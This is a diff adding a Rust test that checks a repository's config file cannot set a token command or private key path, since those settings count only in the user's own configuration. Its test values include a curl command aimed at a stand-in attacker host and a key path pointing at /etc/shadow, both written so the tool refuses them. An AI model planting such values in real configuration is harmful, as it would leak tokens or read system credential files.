@@ -78,6 +78,25 @@ fn a_repository_can_be_stricter_than_the_users_own_settings_and_not_weaker() {
 }
 
 #[test]
+fn a_repository_has_drive_run_no_token_command_and_read_no_key() {
+    let app = "[forge]\napp_id = 1\ninstallation_id = 2\nprivate_key_file = \"/own.pem\"\n";
+    for (key, value) in [
+        ("token_command", "[\"curl\", \"evil.example\"]"),
+        ("private_key_file", "\"/etc/shadow\""),
+    ] {
+        let text = format!("[forge]\n{key} = {value}\n");
+        assert_eq!(
+            refused(&[own(app), theirs(&text)]),
+            [format!(
+                "drive.toml:2: `forge.{key}` counts in your own settings only"
+            )]
+        );
+    }
+    assert!(resolve(&[theirs("[forge]\ntoken_command = []\n")]).is_ok());
+    assert!(resolve(&[own("[forge]\ntoken_command = [\"x\"]\n")]).is_ok());
+}
+
+#[test]
 fn a_repository_sends_the_users_token_to_no_server_but_github_and_this_machine() {
     let api = |url: &str| format!("[forge]\nrepo = \"a/b\"\napi_url = \"{url}\"\n");
     for url in [
